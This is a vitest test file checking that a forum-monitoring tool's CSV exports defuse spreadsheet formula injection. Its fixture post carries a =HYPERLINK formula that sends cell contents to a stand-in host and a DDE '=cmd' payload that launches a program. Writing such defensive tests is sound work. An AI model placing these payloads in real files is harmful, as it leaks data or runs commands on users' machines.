/**
 * Both CSV exports — the dashboard's download (exportFilteredPosts) and `campuswatch posts
 * export` (exportPosts) — go through the one cell writer (lib/csv.ts) on a real database: a
 * crawled post whose title, author and text are formulas arrives as text, the numeric `version`
 * column stays a number.
 */
import { afterAll, beforeAll, expect, test } from "vitest";
import { exportFilteredPosts, exportPosts, EXPORT_FIELDS } from "@/server/export";
import { parsePostFilter } from "@/server/posts";
import { createTestDb, type TestDb } from "../../support/db";

let t: TestDb;

beforeAll(async () => {
  t = await createTestDb();
  const account = await t.db.account.create({ data: { platform: "discuz", entryUrl: "http://127.0.0.1:9/forum.php?mod=forumdisplay&fid=2", name: "board" } });
  await t.db.post.create({
    data: {
      accountId: account.id,
      platformId: "9001",
      kind: "post",
      url: "http://127.0.0.1:9/forum.php?mod=viewthread&tid=9001",
      title: '=HYPERLINK("http://x.example/?"&A1,"点击")',
      author: "＠admin",
      authorId: "-12",
      publishedAt: new Date("2026-11-30T02:00:00Z"),
      text: "见附件;=cmd|' /C calc'!A0",
      sha1: "sha-9001",
      version: 3,
    },
  });
});
afterAll(() => t.cleanup());

async function rows(gen: AsyncGenerator<string>): Promise<Record<string, string>> {
  let s = "";
  for await (const c of gen) s += c;
  const lines = s.replace(/^\ufeff/, "").split("\r\n");
  expect(lines[0]).toBe(EXPORT_FIELDS.join(","));
  // The one record: split by hand on the cells this test knows (no commas inside but the title's).
  const record = lines[1]!;
  const title = /^[^,]*,[^,]*,[^,]*,[^,]*,[^,]*,[^,]*,("(?:[^"]|"")*")/.exec(record)![1]!;
  const cells = record.replace(title, "TITLE").split(",");
  return Object.fromEntries(EXPORT_FIELDS.map((k, i) => [k, k === "title" ? title : cells[i]!]));
}

test("the CLI's and the dashboard's CSV defuse formulas in text cells and keep numbers as numbers", async () => {
  for (const gen of [exportPosts(t.db, { format: "csv" }), exportFilteredPosts(t.db, "csv", parsePostFilter({}, false).filter)]) {
    const r = await rows(gen);
    expect(r.title).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")"');
    expect(r.author).toBe("'＠admin");
    expect(r.authorId).toBe("'-12"); // an id is text: defused like any text
    expect(r.text).toBe("见附件;'=cmd|' /C calc'!A0");
    expect(r.version).toBe("3");
    expect(r.publishedAt).toBe("2026-11-30T02:00:00.000Z");
  }
});
